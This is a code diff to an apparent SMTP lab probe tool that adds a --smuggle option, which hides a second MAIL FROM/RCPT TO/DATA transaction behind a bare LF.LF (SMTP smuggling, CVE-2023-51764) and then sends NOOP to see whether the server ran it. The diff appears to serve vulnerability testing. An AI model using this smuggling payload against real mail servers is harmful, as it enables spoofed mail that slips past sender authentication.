@@ -71,10 +71,11 @@ class Dialogue:
             self.open = False
         return self.record(line, code, decode(text))
 
-    def message(self, body: bytes) -> dict:
-        """Send the message after a 354 to DATA (dot-stuffed by smtplib.quotedata)."""
+    def message(self, body: bytes, raw_tail: bytes = b"") -> dict:
+        """Send the message after a 354 to DATA (dot-stuffed by smtplib.quotedata, which also turns
+        every bare LF into CRLF); raw_tail goes out as it is, just before the final CRLF.CRLF."""
         try:
-            self.smtp.send(smtplib.quotedata(body.decode()).encode() + b"\r\n.\r\n")
+            self.smtp.send(smtplib.quotedata(body.decode()).encode() + raw_tail + b"\r\n.\r\n")
             code, text = self.smtp.getreply()
         except (smtplib.SMTPServerDisconnected, OSError) as exc:
             self.open = False
@@ -122,6 +123,18 @@ def build_message(args: argparse.Namespace) -> bytes:
     return ("\r\n".join(headers) + "\r\n\r\nmailguard lab probe\r\n").encode()
 
 
+def smuggled_transaction(args: argparse.Namespace) -> bytes:
+    """A second transaction hidden behind a bare <LF>.<LF> (SMTP smuggling, CVE-2023-51764).
+
+    A server that ends DATA there runs it: the NOOP the probe sends next is then answered with the
+    reply to the smuggled MAIL. A server that wants <CR><LF>.<CR><LF> keeps it as message text.
+    """
+    return (
+        f"\n.\nMAIL FROM:<{args.sender}>\r\nRCPT TO:<{args.to[0]}>\r\nDATA\r\n"
+        "Subject: smuggled\r\n\r\nsmuggled by smtp-probe\r\n"
+    ).encode()
+
+
 def run_dialogue(args: argparse.Namespace) -> dict:
     session = Dialogue(args.server, args.port, args.timeout)
     result = {"server": f"{args.server}:{args.port}", "steps": session.steps}
@@ -136,7 +149,9 @@ def run_dialogue(args: argparse.Namespace) -> dict:
             return result
         accepted = [rcpt for rcpt in args.to if positive(session.command(f"RCPT TO:<{rcpt}>")["code"])]
         if args.data and accepted and session.command("DATA")["code"] == 354:
-            session.message(build_message(args))
+            session.message(build_message(args), smuggled_transaction(args) if args.smuggle else b"")
+            if args.smuggle:
+                session.command("NOOP")
         return result
     finally:
         session.quit()
@@ -177,6 +192,9 @@ def parse_args(argv: list[str]) -> argparse.Namespace:
     parser.add_argument("--to", action="append", default=[], metavar="ADDR", help="recipient (repeatable)")
     parser.add_argument("--data", action="store_true", help="send a message when a recipient is accepted")
     parser.add_argument("--subject", default="mailguard lab probe")
+    parser.add_argument(
+        "--smuggle", action="store_true", help="hide a second transaction behind <LF>.<LF> in the message, then NOOP"
+    )
     parser.add_argument("--connections", type=int, metavar="N", help="burst mode: N connections in a row")
     parser.add_argument("--interval", type=float, default=0.0, help="burst mode: seconds between connections")
     args = parser.parse_args(argv)
